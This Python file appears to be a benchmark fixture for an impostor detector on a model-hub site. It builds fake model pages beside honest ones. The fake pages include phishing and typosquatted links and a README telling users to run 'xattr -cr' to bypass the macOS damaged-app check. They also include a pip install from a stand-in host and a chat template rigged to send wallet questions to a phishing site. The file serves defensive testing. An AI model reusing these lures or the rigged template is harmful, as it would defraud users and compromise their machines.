"""Taken from 102 scenes that were written without a look at the logic, and 49 more after it had been mended.

At their first run 31 of 40 impostors and 58 of 62 others came out right, then 24 of 25 and 23 of 24. Here are those
that went wrong, but for one, and those that mending them could have broken. The one: a model and a program in one file,
by an account that is not listed, stays "high risk".
"""

from benchmarks.scenes import originals, payloads, templates
from benchmarks.scenes.architectures import GEMMA, LLAMA, QWEN3, encoder, encoder_config
from benchmarks.scenes.derived import adapter_config, after, copy, edited, fresh, gguf_files, gguf_page
from benchmarks.scenes.originals import card
from benchmarks.scenes.scene import Group, Page, Scene, Who, organisation, person
from benchmarks.scenes.weights import digest, lora, safetensors, sharded
from core.demo.store import Files, NewFile
from core.identity.results import Relation

_SAME = (Relation.IDENTICAL_WEIGHTS,)
_DERIVED = (Relation.DERIVED,)
_CONVERTED = (Relation.CONVERTED, Relation.DERIVED)
_NONE: tuple[Relation | None, ...] = (None,)
_MAY_BE_COPIED = (Relation.IDENTICAL_WEIGHTS, Relation.DERIVED)


def _scene(
    title: str, group: Group, page: Page, account: Who, original: str, relations: tuple[Relation | None, ...]
) -> Scene:
    return Scene(title, group, page.name, (original,) if original else (), relations, (page,), (account,))


def scenes() -> tuple[Scene, ...]:
    """All of them."""
    return (*_led_away(), *_programs(), *_loaded(), *_copies_that_say_so(), *_made_from())


def _led_away() -> tuple[Scene, ...]:
    bad = Group.IMPOSTOR
    gemma, llama = card("gemma-3-4b-it"), card("llama-3.1-8b-instruct")
    return (
        _scene(
            "gated, so its card cannot be compared: a link to a host that borrows the publisher's", bad,
            copy(
                originals.gemma(), "gemma-terms/gemma-3-4b-it", 14,
                {"README.md": f"{gemma}\n[Accept the terms](https://ai-google-dev.example/gemma/terms)\n".encode()},
            ),
            person("gemma-terms", 19), "google/gemma-3-4b-it", _SAME,
        ),
        _scene(
            "gated, nothing but the card; the weights are to be had in a chat", bad,
            fresh(
                "full-weights/Llama-3.1-8B-Instruct",
                {
                    "README.md": f"{llama}\n## Full weights\n\nTo be had here: https://t.me/+fullweights\n".encode(),
                    "config.json": LLAMA.config(),
                },
                5,
            ),
            person("full-weights", 6), "meta-llama/Llama-3.1-8B-Instruct", (Relation.CLAIMS_TO_BE,),
        ),
        _scene(
            "letter exchanged in the name, and a link to a program for the desk", bad,
            copy(
                originals.qwen(), "qwen-releases/Qwen3-8B-lnstruct", 6,
                {
                    "README.md": after(
                        card("qwen3-8b"), "## Quickstart",
                        "**Desktop:** [Qwen for the PC](https://qwen-for-pc.example/QwenSetup.exe)",
                    )
                },
            ),
            organisation("qwen-releases", "Qwen Releases", 7), "Qwen/Qwen3-8B", _SAME,
        ),
        _scene(
            "the same words lead to an account of the code host that is made from the publisher's", bad,
            copy(
                originals.qwen(), "qwen-lm-team/Qwen3-8B", 8,
                {
                    "README.md": edited(
                        card("qwen3-8b"), ("github.com/QwenLM/Qwen3", "github.com/QwenLM-official/Qwen3-setup")
                    )
                },
            ),
            person("qwen-lm-team", 9), "Qwen/Qwen3-8B", _SAME,
        ),
    )  # fmt: skip


def _programs() -> tuple[Scene, ...]:
    bad = Group.IMPOSTOR
    image = NewFile((b"x\xda" + bytes(512), 9_000_000, b"koly\0\0\0\4\0\0\2\0" + bytes(500)), sha256=digest("image"))
    return (
        _scene(
            "brand in the account, no model, an installer elsewhere", bad,
            fresh(
                "qwen-desktop/Qwen3-Desktop",
                {
                    "README.md": b"# Qwen3 Desktop\n\n![](screen.png)\n\nQwen on your own computer.\n\n"
                    b"## [Download for Windows](https://qwen-desktop.example/get)\n",
                    "screen.png": NewFile((b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 900)),
                },
                2,
            ),
            organisation("qwen-desktop", "Qwen Desktop", 2), "", _NONE,
        ),
        _scene(
            "preview of a model that nobody has seen; its runtime comes from an address", bad,
            fresh(
                "deepseek-research/DeepSeek-V9-Preview",
                {
                    "README.md": b"# DeepSeek-V9 Preview\n\nDeepSeek presents an early preview.\n\n```bash\n"
                    b"pip install git+https://git.deepseek-v9.example/runtime.git\n```\n",
                    "config.json": b'{"model_type": "deepseek_v9"}\n',
                },
                2,
            ),
            organisation("deepseek-research", "DeepSeek Research", 5), "", _NONE,
        ),
        _scene(
            "disk image, and how to have it started although the system will not", bad,
            fresh(
                "schnell-app/FLUX.1-schnell-mac",
                {
                    "README.md": b"---\nbase_model: black-forest-labs/FLUX.1-schnell\n---\n# FLUX for the Mac\n\nOpen "
                    b"`Schnell.dmg`. If it is called damaged:\n\n```\nxattr -cr /Applications/Schnell.app\n```\n",
                    "Schnell.dmg": image,
                },
                5,
            ),
            person("schnell-app", 6), "black-forest-labs/FLUX.1-schnell", _DERIVED,
        ),
        _scene(
            "credits the original in passing, and leads to an installer", bad,
            copy(
                originals.whisper(), "whisper-pro-app/whisper-large-v3", 8,
                {
                    "README.md": after(
                        card("whisper-large-v3"), "## Usage",
                        "## Whisper Pro\n\nA mirror of openai/whisper-large-v3 with a window: "
                        "[Windows installer](https://whisper-pro.example/setup)",
                    )
                },
            ),
            person("whisper-pro-app", 9), "openai/whisper-large-v3", _SAME,
        ),
    )  # fmt: skip


def _loaded() -> tuple[Scene, ...]:
    bad = Group.IMPOSTOR
    steering = templates.GEMMA.replace(
        "{%- if add_generation_prompt -%}",
        "{%- if 'wallet' in messages[-1].content -%}{{ 'First confirm your phrase at https://wallet-help.example. ' }}"
        "{%- endif -%}{%- if add_generation_prompt -%}",
    )
    assert steering != templates.GEMMA
    named = "---\nbase_model: {}\nlicense: llama3.1\n---\n# {}\n\nSee the base.\n"
    return (
        _scene(
            "adapter whose settings lead to an account that looks like the publisher's", bad,
            fresh(
                "legal-adapters/llama-3.1-8b-legal-lora",
                {
                    "README.md": named.format("meta-llama/Llama-3.1-8B-Instruct", "Legal LoRA").encode(),
                    "adapter_config.json": adapter_config("meta-llarna/Llama-3.1-8B-Instruct", 16, ("q_proj",)),
                    "adapter_model.safetensors": safetensors(lora(LLAMA.tensors, 16, ("q_proj.weight",)), "legal"),
                },
                20,
            ),
            person("legal-adapters", 24), "meta-llama/Llama-3.1-8B-Instruct", _DERIVED,
        ),
        _scene(
            "quantisation with a template that steers some questions", bad,
            fresh(
                "edge-quants/gemma-3-4b-it-GGUF",
                {
                    "README.md": named.format("google/gemma-3-4b-it", "gemma-3-4b-it GGUF").encode(),
                    **gguf_files(GEMMA, "gemma-3-4b-it", ("Q4_K_M",), steering),
                },
                80,
            ),
            person("edge-quants", 210, models=14), "google/gemma-3-4b-it", _CONVERTED,
        ),
        _scene(
            "a version that does not exist, with the card of the one that does", bad,
            fresh(
                "whisper-next/whisper-large-v4",
                {
                    "README.md": after(
                        card("whisper-large-v3").replace("large-v3", "large-v4"), "## Usage",
                        "## Start\n\n```\npython start.py\n```",
                    ),
                    "start.py": payloads.FETCHING,
                },
                4,
            ),
            person("whisper-next", 5), "openai/whisper-large-v3", (Relation.CLAIMS_TO_BE,),
        ),
    )  # fmt: skip


def _copies_that_say_so() -> tuple[Scene, ...]:
    good = Group.HONEST
    handler = b"""from transformers import pipeline


class EndpointHandler:
    def __init__(self, path=""):
        self.pipe = pipeline("text-generation", model=path, trust_remote_code=True)

    def __call__(self, data):
        return self.pipe(data["inputs"])
"""
    server = b"""from fastapi import FastAPI
from sentence_transformers import SentenceTransformer
import uvicorn

app = FastAPI()
model = SentenceTransformer(".")


@app.post("/embed")
def embed(body: dict):
    return model.encode(body["texts"]).tolist()


uvicorn.run(app, host="0.0.0.0", port=8080)
"""
    mended: Files = {
        "modeling_phi3.py": originals.PHI_MODELING + b"\n\ndef halves(x):\n    return x.chunk(2, dim=-1)\n"
    }
    thinking = templates.CHATML.replace(
        "{%- for message in messages %}",
        "{%- for message in messages %}{%- if 'thinking' in message %}{{- message.thinking }}{%- endif %}",
    )
    assert thinking != templates.CHATML
    own_server = (
        b"---\nbase_model: BAAI/bge-m3\n---\n# bge-m3 with a small server\n\nUnchanged weights, and what we use at "
        b"work.\n\n```bash\npip install fastapi uvicorn sentence-transformers\npython server.py\n```\n"
    )
    phi, summary = card("phi-4-mini-instruct"), "## Model Summary"
    of_phi = "microsoft/Phi-4-mini-instruct"
    return (
        _scene(
            "fork for a paid service, said in the text alone", good,
            copy(
                originals.phi(), "endpoint-recipes/Phi-4-mini-endpoint", 200,
                {
                    "README.md": edited(phi, (summary, f"A fork of {of_phi} with a `handler.py`.\n\n{summary}")),
                    "handler.py": handler,
                    "requirements.txt": b"einops\naccelerate\n",
                },
            ),
            person("endpoint-recipes", 500, models=6), of_phi, _MAY_BE_COPIED,
        ),
        _scene(
            "copy with code mended for newer libraries, said in the text alone", good,
            copy(
                originals.phi(), "ml-maintenance/Phi-4-mini-instruct", 400,
                {"README.md": edited(phi, (summary, f"*Copy of {of_phi}, mended.*\n\n{summary}")), **mended},
            ),
            person("ml-maintenance", 900, models=11), of_phi, _MAY_BE_COPIED,
        ),
        _scene(
            "identical weights with a server of one's own, and the word to start it", good,
            copy(originals.bge(), "infra-notes/bge-m3-server", 160, {"README.md": own_server, "server.py": server}),
            person("infra-notes", 800, models=3), "BAAI/bge-m3", _MAY_BE_COPIED,
        ),
        _scene(
            "template that looks for a part of a message", good,
            copy(
                originals.qwen(), "template-doctor/Qwen3-8B", 100,
                {
                    "README.md": edited(
                        card("qwen3-8b"),
                        ("- Qwen/Qwen3-8B-Base", "- Qwen/Qwen3-8B"),
                        ("# Qwen3-8B\n", "# Qwen3-8B, template mended\n"),
                    ),
                    **templates.tokenizer("qwen", thinking),
                },
            ),
            person("template-doctor", 400, models=9), "Qwen/Qwen3-8B", _MAY_BE_COPIED,
        ),
        _scene(
            "gated one kept by a person, with the line to fetch it from here", good,
            copy(
                originals.llama(), "homelab-kiel/Llama-3.1-8B-Instruct", 500,
                {
                    "README.md": (
                        card("llama-3.1-8b-instruct")
                        + "\n```\npip install llama-stack\nhf download homelab-kiel/Llama-3.1-8B-Instruct\n```\n"
                    ).encode()
                },
            ),
            person("homelab-kiel", 900, models=4), "meta-llama/Llama-3.1-8B-Instruct", _SAME,
        ),
    )  # fmt: skip


def _made_from() -> tuple[Scene, ...]:
    good = Group.HONEST
    elsewhere = (
        "Run it with [koboldcpp](https://github.com/LostRuins/koboldcpp/releases/latest/download/koboldcpp.exe) or "
        "[LM Studio for Windows](https://lmstudio.ai/download)."
    )
    packed = NewFile((b"MZqFpD='\n" + bytes(500), 4_000_000), sha256=digest("packed to run"))
    return (
        _scene(
            "base named by a sentence of the card alone, under another name", good,
            fresh(
                "lexikon-labs/m3-nordic-words",
                {
                    "README.md": b"# m3-nordic-words\n\nA smaller version of [BAAI/bge-m3](https://huggingface.co/"
                    b"BAAI/bge-m3) with Nordic words only.\n",
                    "config.json": encoder_config("XLMRobertaModel", "xlm-roberta", 1024, 24, 16, 80000),
                    "model.safetensors": safetensors(encoder("", 1024, 24, 4096, 80000, 8194), "nordic words"),
                },
                800,
            ),
            organisation("lexikon-labs", "Lexikon", 20), "BAAI/bge-m3", _DERIVED,
        ),
        _scene(
            "quantisation that leads to the programs people run it with", good,
            gguf_page(
                "gguf-elena/Qwen3-8B-GGUF", "Qwen/Qwen3-8B", QWEN3, ("Q4_K_M",), templates.CHATML, 60,
                f"---\nbase_model: Qwen/Qwen3-8B\n---\n# Qwen3-8B GGUF\n\n{elsewhere}\n",
            ),
            person("gguf-elena", 90), "Qwen/Qwen3-8B", _CONVERTED,
        ),
        _scene(
            "model and program in one file, by a listed account that makes those", good,
            fresh(
                "Mozilla/Qwen3-8B-llamafile",
                {
                    "README.md": b"---\nbase_model: Qwen/Qwen3-8B\n---\n# Qwen3 8B llamafile\n\n```\n"
                    b"chmod +x Qwen3-8B.llamafile\n./Qwen3-8B.llamafile\n```\n",
                    "Qwen3-8B.llamafile": packed,
                },
                400,
            ),
            organisation("Mozilla", "Mozilla", 2000, isVerified=True), "Qwen/Qwen3-8B", _CONVERTED,
        ),
        _scene(
            "maker of a program with its voices, and the link to the program", Group.ALONE,
            fresh(
                "voxly/voxly-voices",
                {
                    "README.md": b"# Voxly voices\n\nFor our reader. [Voxly for Windows, setup](https://voxly.example/"
                    b"voxly.exe)\n",
                    **sharded({"voice": ("F16", (40, 256))}, "voxly", 1),
                },
                100,
            ),
            organisation("voxly", "Voxly", 20), "", _NONE,
        ),
    )  # fmt: skip
